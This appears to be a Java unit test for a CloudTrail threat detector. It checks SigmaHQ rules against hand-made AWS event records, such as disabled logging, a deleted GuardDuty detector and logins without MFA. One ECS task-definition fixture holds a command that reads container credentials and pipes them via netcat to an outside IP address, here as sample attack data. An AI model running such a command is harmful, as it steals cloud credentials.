package dev.trailwatch.detector.rules.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.trailwatch.detector.model.CloudTrailEvent;
import dev.trailwatch.detector.rules.RulePack;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Hand-written CloudTrail records, shaped as AWS writes them, for the SigmaHQ rules that matter most: each rule
 * flags the attack it is about and stays quiet on the look-alike that is not. All 57 rules run together (as in a
 * rules directory), so a record is also checked against every other rule.
 */
class SigmaHqRecordsTest {

    private static final RulePack PACK = RulePack.of(SigmaRules.load(SigmaHqConformanceTest.DIR).watchListRules());

    /** A full record: an IAM user's call, with {@code extra} fields (JSON members) added or replacing the defaults. */
    private static CloudTrailEvent record(String eventSource, String eventName, String extra) {
        ObjectNode record = (ObjectNode) SigmaEvents.tree("""
                {"eventVersion": "1.09",
                 "userIdentity": {"type": "IAMUser", "principalId": "AIDACKCEVSQ6C2EXAMPLE",
                   "arn": "arn:aws:iam::111122223333:user/alice", "accountId": "111122223333",
                   "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "userName": "alice"},
                 "eventTime": "2025-03-02T10:21:37Z", "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.23",
                 "userAgent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.1 exe/x86_64.amzn.2023",
                 "requestParameters": null, "responseElements": null,
                 "requestID": "2d0a4b6e-8c1f-4e3a-9b5d-7f6e5d4c3b2a", "eventID": "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d",
                 "readOnly": false, "eventType": "AwsApiCall", "managementEvent": true,
                 "recipientAccountId": "111122223333", "eventCategory": "Management"}""");
        record.put("eventSource", eventSource);
        record.put("eventName", eventName);
        record.setAll((ObjectNode) SigmaEvents.tree("{" + extra + "}"));
        return SigmaEvents.parse(record);
    }

    private static List<String> alerts(CloudTrailEvent event) {
        return PACK.matching(event).stream().map(r -> r.id()).toList();
    }

    private static final String CONSOLE = """
            "eventType": "AwsConsoleSignIn", "readOnly": false, "requestParameters": null,
            "userAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36",
            """;

    @Test
    void consoleLoginWithoutMfaAlertsAndWithMfaDoesNot() {
        String login = CONSOLE + """
                "responseElements": {"ConsoleLogin": "Success"},
                "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No",
                  "MFAUsed": "%s"}""";
        assertThat(alerts(record("signin.amazonaws.com", "ConsoleLogin", login.formatted("No"))))
                .containsExactly("sigma-aws-cloudtrail-console-login-success-without-mfa");
        assertThat(alerts(record("signin.amazonaws.com", "ConsoleLogin", login.formatted("Yes")))).isEmpty();
    }

    @Test
    void failedConsoleLoginAlerts() {
        assertThat(alerts(record("signin.amazonaws.com", "ConsoleLogin", CONSOLE + """
                "errorMessage": "Failed authentication", "responseElements": {"ConsoleLogin": "Failure"},
                "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No",
                  "MFAUsed": "No"}""")))
                .containsExactly("sigma-aws-cloudtrail-console-login-failed-authentication");
    }

    @Test
    void rootConsoleLoginAlertsButAServiceEventForRootDoesNot() {
        String root = """
                "userIdentity": {"type": "Root", "principalId": "111122223333",
                  "arn": "arn:aws:iam::111122223333:root", "accountId": "111122223333"},""";
        assertThat(alerts(record("signin.amazonaws.com", "ConsoleLogin", root + CONSOLE + """
                "responseElements": {"ConsoleLogin": "Success"},
                "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/", "MobileVersion": "No",
                  "MFAUsed": "Yes"}""")))
                .containsExactly("sigma-aws-root-account-usage");
        assertThat(alerts(record("signin.amazonaws.com", "CredentialVerification", root + """
                "eventType": "AwsServiceEvent", "serviceEventDetails": {"CredentialVerification": "Success"}""")))
                .isEmpty();
    }

    @Test
    void stoppingATrailAlerts() {
        assertThat(alerts(record("cloudtrail.amazonaws.com", "StopLogging", """
                "requestParameters": {"name": "arn:aws:cloudtrail:us-east-1:111122223333:trail/management-events"}""")))
                .containsExactly("sigma-aws-cloudtrail-disable-logging");
        assertThat(alerts(record("cloudtrail.amazonaws.com", "StartLogging", """
                "requestParameters": {"name": "arn:aws:cloudtrail:us-east-1:111122223333:trail/management-events"}""")))
                .isEmpty();
    }

    @Test
    void guardDutyDeletedOrDisabledAlertsButADeniedAttemptOrEnablingDoesNot() {
        String detector = "\"requestParameters\": {\"detectorId\": \"12abc34d567e8fa901bc2d34e56789f0\"%s}";
        assertThat(alerts(record("guardduty.amazonaws.com", "DeleteDetector", detector.formatted(""))))
                .containsExactly("sigma-aws-cloudtrail-guardduty-detector-deleted-or-updated");
        assertThat(alerts(record("guardduty.amazonaws.com", "DeleteDetector", detector.formatted("")
                + ", \"errorCode\": \"AccessDenied\", \"errorMessage\": \"User is not authorized\""))).isEmpty();
        assertThat(alerts(record("guardduty.amazonaws.com", "UpdateDetector", detector.formatted(", \"enable\": false"))))
                .as("enable is a JSON boolean in the record, a quoted 'false' in the rule")
                .containsExactly("sigma-aws-cloudtrail-guardduty-detector-deleted-or-updated");
        assertThat(alerts(record("guardduty.amazonaws.com", "UpdateDetector", detector.formatted(", \"enable\": true"))))
                .isEmpty();
    }

    @Test
    void suspendingBucketVersioningAlerts() {
        String versioning = """
                "requestParameters": {"bucketName": "prod-backups", "Host": "prod-backups.s3.amazonaws.com",
                  "versioning": "", "VersioningConfiguration": {"Status": "%s",
                  "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/"}}""";
        assertThat(alerts(record("s3.amazonaws.com", "PutBucketVersioning", versioning.formatted("Suspended"))))
                .containsExactly("sigma-aws-disable-bucket-versioning");
        assertThat(alerts(record("s3.amazonaws.com", "PutBucketVersioning", versioning.formatted("Enabled"))))
                .isEmpty();
    }

    @Test
    void aTaskDefinitionReadingTheContainerCredentialsEndpointAlerts() {
        assertThat(alerts(record("ecs.amazonaws.com", "RegisterTaskDefinition", """
                "requestParameters": {"family": "web", "containerDefinitions": [
                  {"name": "web", "image": "nginx:1.25", "command": ["nginx", "-g", "daemon off;"]},
                  {"name": "debug", "image": "curlimages/curl", "command": ["sh", "-c",
                   "curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 203.0.113.50 4444"]}]}""")))
                .containsExactly("sigma-aws-ecs-task-definition-cred-endpoint-query");
        assertThat(alerts(record("ecs.amazonaws.com", "RegisterTaskDefinition", """
                "requestParameters": {"family": "web", "containerDefinitions": [
                  {"name": "web", "image": "nginx:1.25", "command": ["nginx", "-g", "daemon off;"]}]}"""))).isEmpty();
    }

    @Test
    void instanceIdentityCredentialsUsedOutsideSsmAlert() {
        String instance = """
                "userIdentity": {"type": "AssumedRole", "principalId": "AROAEXAMPLE:i-0abcd1234efgh5678",
                  "arn": "arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abcd1234efgh5678",
                  "accountId": "111122223333", "sessionContext": {"sessionIssuer": {"type": "Role",
                  "principalId": "AROAEXAMPLE", "arn": "arn:aws:iam::111122223333:role/aws:ec2-instance",
                  "accountId": "111122223333", "userName": "aws:ec2-instance"}}},""";
        assertThat(alerts(record("s3.amazonaws.com", "ListBuckets", instance + """
                "sourceIPAddress": "203.0.113.50", "readOnly": true""")))
                .contains("sigma-aws-cloudtrail-imds-malicious-usage");
        assertThat(alerts(record("ssm.amazonaws.com", "UpdateInstanceInformation", instance + """
                "sourceIPAddress": "10.0.12.7\""""))).doesNotContain("sigma-aws-cloudtrail-imds-malicious-usage");
    }

    @Test
    void restoringAPublicDatabaseFromASnapshotAlerts() {
        String restore = """
                "requestParameters": {"dBInstanceIdentifier": "restored-prod", "dBSnapshotIdentifier": "prod-2025-03-01"},
                "responseElements": {"dBInstanceIdentifier": "restored-prod", "dBInstanceStatus": "creating",
                  "publiclyAccessible": %s, "engine": "postgres"}""";
        assertThat(alerts(record("rds.amazonaws.com", "RestoreDBInstanceFromDBSnapshot", restore.formatted("true"))))
                .containsExactly("sigma-aws-rds-public-db-restore");
        assertThat(alerts(record("rds.amazonaws.com", "RestoreDBInstanceFromDBSnapshot", restore.formatted("false"))))
                .isEmpty();
    }

    @Test
    void aLambdaLayerAttachedAlerts() {
        assertThat(alerts(record("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2", """
                "requestParameters": {"functionName": "billing-export",
                  "layers": ["arn:aws:lambda:us-east-1:444455556666:layer:helper:3"]}""")))
                .containsExactly("sigma-aws-new-lambda-layer-attached");
        assertThat(alerts(record("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2", """
                "requestParameters": {"functionName": "billing-export", "timeout": 30}"""))).isEmpty();
    }

    @Test
    void s3BrowsersTemplatedBucketPolicyAlerts() {
        assertThat(alerts(record("iam.amazonaws.com", "PutUserPolicy", """
                "userAgent": "S3 Browser 11.5.7 https://s3browser.com",
                "requestParameters": {"userName": "backup", "policyName": "s3-read",
                  "policyDocument": "{\\"Version\\":\\"2012-10-17\\",\\"Statement\\":[{\\"Effect\\":\\"Allow\\",\\"Action\\":[\\"s3:GetObject\\"],\\"Resource\\":[\\"arn:aws:s3:::<YOUR-BUCKET-NAME>/*\\"]}]}"}""")))
                .containsExactly("sigma-aws-iam-s3browser-templated-s3-bucket-policy-creation");
    }

    @Test
    void truffleHogValidatingAKeyAlerts() {
        assertThat(alerts(record("sts.amazonaws.com", "GetCallerIdentity", """
                "userAgent": "TruffleHog", "readOnly": true""")))
                .containsExactly("sigma-aws-cloudtrail-pua-trufflehog", "sigma-aws-sts-getcalleridentity-trufflehog");
        assertThat(alerts(record("sts.amazonaws.com", "GetCallerIdentity", """
                "userAgent": "trufflehog/3.63.0 (+https://github.com/trufflesecurity/trufflehog)", "readOnly": true""")))
                .as("the exact-value rule wants exactly 'TruffleHog'; the other looks for it inside the agent")
                .containsExactly("sigma-aws-sts-getcalleridentity-trufflehog");
    }

    @Test
    void vpcFlowLogsDeletedAlertsUnlessTheCallFailed() {
        String flowLogs = "\"requestParameters\": {\"DeleteFlowLogsRequest\": {\"FlowLogId\": {\"tag\": 1,"
                + " \"content\": \"fl-0123456789abcdef0\"}}}";
        assertThat(alerts(record("ec2.amazonaws.com", "DeleteFlowLogs", flowLogs)))
                .containsExactly("sigma-aws-cloudtrail-vpc-flow-logs-deleted");
        assertThat(alerts(record("ec2.amazonaws.com", "DeleteFlowLogs", flowLogs
                + ", \"errorCode\": \"Client.UnauthorizedOperation\""))).isEmpty();
    }

    @Test
    void theEventNameIndexFindsSigmaRulesWhateverTheCaseWhileFilterPatternsStayExact() {
        List<dev.trailwatch.detector.rules.Rule> all = new java.util.ArrayList<>(RulePack.load(null).rules());
        all.addAll(PACK.rules());
        RulePack both = RulePack.of(all);
        String trail = "\"requestParameters\": {\"name\": \"management-events\"}";
        assertThat(both.matching(record("cloudtrail.amazonaws.com", "StopLogging", trail)))
                .extracting(r -> r.id()).contains("cloudtrail-logging-stopped", "sigma-aws-cloudtrail-disable-logging");
        assertThat(both.matching(record("cloudtrail.amazonaws.com", "stoplogging", trail)))
                .extracting(r -> r.id()).contains("sigma-aws-cloudtrail-disable-logging")
                .doesNotContain("cloudtrail-logging-stopped");
    }

    @Test
    void rulesWrittenLooselyInSigmaHqBehaveExactlyAsWritten() {
        // The backdoor-keys filter compares the ARN with the literal text 'responseElements.accessKey.userName'
        // (SigmaHQ wrote it without |fieldref), so every CreateAccessKey alerts, for oneself too.
        String key = "\"requestParameters\": {\"userName\": \"%s\"}, \"responseElements\": {\"accessKey\":"
                + " {\"accessKeyId\": \"AKIAI44QH8DHBEXAMPLE\", \"status\": \"Active\", \"userName\": \"%s\"}}";
        assertThat(alerts(record("iam.amazonaws.com", "CreateAccessKey", key.formatted("bob", "bob"))))
                .containsExactly("sigma-aws-iam-backdoor-users-keys");
        assertThat(alerts(record("iam.amazonaws.com", "CreateAccessKey", key.formatted("alice", "alice"))))
                .containsExactly("sigma-aws-iam-backdoor-users-keys");
        // The login-profile filter compares the whole ARN with requestParameters.userName, which never holds in a
        // real record, so a user changing their own password alerts as well.
        assertThat(alerts(record("iam.amazonaws.com", "UpdateLoginProfile", """
                "requestParameters": {"userName": "alice", "passwordResetRequired": false}""")))
                .containsExactly("sigma-aws-update-login-profile");
        // 'status' is not a CloudTrail field: the SAML provider rule loads with a warning and never matches.
        assertThat(alerts(record("iam.amazonaws.com", "DeleteSAMLProvider", """
                "requestParameters": {"sAMLProviderArn": "arn:aws:iam::111122223333:saml-provider/okta"}""")))
                .isEmpty();
    }
}
